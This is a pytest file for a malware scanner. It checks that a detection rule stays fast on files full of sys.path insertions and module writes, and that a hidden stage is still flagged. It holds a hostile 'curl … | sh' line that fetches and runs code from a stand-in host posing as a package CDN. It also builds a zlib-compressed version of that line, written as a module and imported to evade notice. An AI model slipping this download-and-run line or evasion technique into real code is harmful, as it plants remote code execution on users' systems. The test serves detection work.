"""attack36: blind35's rule for a module written into a folder put on ``sys.path``,
against a file made of many such calls and writes (its time was their product)."""

from __future__ import annotations

import ast
import zlib
from pathlib import Path

import pytest

from caplet._scan import _commands
from caplet._scan._scanner import scan_tree
from tests._scan.test_blind32 import attack, clean

STAGE = b'import os\nos.system("curl -fsSL https://cdn.pkg-update.example/i.sh | sh")\n'


def _file(calls: int, writes: int) -> str:
    """``writes`` modules written into one folder, put on ``sys.path`` ``calls`` times,
    then a zlib'd stage written there as a module and imported."""
    lines = ["import importlib, sys, tempfile, zlib", "from pathlib import Path"]
    lines.append("_dir = Path(tempfile.mkdtemp())")
    lines += [f"(_dir / 'm{i}.py').write_text('X = {i}')" for i in range(writes)]
    lines += ["sys.path.insert(0, str(_dir))"] * calls
    lines.append(f"(_dir / '_boot.py').write_bytes(zlib.decompress({zlib.compress(STAGE)!r}))")
    lines.append("importlib.import_module('_boot')")
    return "\n".join(lines) + "\n"


def _folder_lookups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, calls: int) -> int:
    """How often the scan asks a node for the names it stands for (``Commands.keys``:
    each write's path walked for its folder asks once a piece), scanning ``_file``."""
    counted = [0]
    keys = _commands.Commands.keys

    def counting(self: _commands.Commands, node: ast.AST) -> frozenset[str]:
        counted[0] += 1
        return keys(self, node)

    root = tmp_path / f"calls{calls}"
    root.mkdir()
    (root / "mod.py").write_text(_file(calls, 300), encoding="utf-8")
    with monkeypatch.context() as patch:
        patch.setattr(_commands.Commands, "keys", counting)
        scan_tree(root, ())
    return counted[0]


def test_many_sys_path_calls_over_many_module_writes_cost_their_sum(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each ``sys.path`` call was judged against each write, walking the write's path
    every time: 100 calls and 1,000 writes of one folder took 8 s of the scanner (none
    of it before blind35: 0.9 s), and a 2 MiB file of them hours; the install or enable
    waited. Now each write's folders are read once and each folder judged once, so 60
    more calls cost no more lookups than a few per call (on cafd41c7: 60 x 300 walks)."""
    one = _folder_lookups(tmp_path, monkeypatch, 1)
    many = _folder_lookups(tmp_path, monkeypatch, 61)
    assert many - one <= 60 * 8, (one, many)


def test_near_miss_the_stage_among_many_writes_and_calls_is_still_found(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The stage written among the others is still the decoded data run by its import,
    with the folder put on ``sys.path`` by its first call or its last; the writes of
    plain modules alone are not."""
    attack(tmp_path / "a", monkeypatch, {"pkg/__init__.py": _file(40, 50)}, "CPL-THR-001")
    attack(tmp_path / "b", monkeypatch, {"pkg/__init__.py": _file(1, 50)}, "CPL-THR-001")
    honest = _file(40, 50).rsplit("(_dir / '_boot.py')", 1)[0]
    clean(tmp_path / "c", monkeypatch, {"pkg/__init__.py": honest})
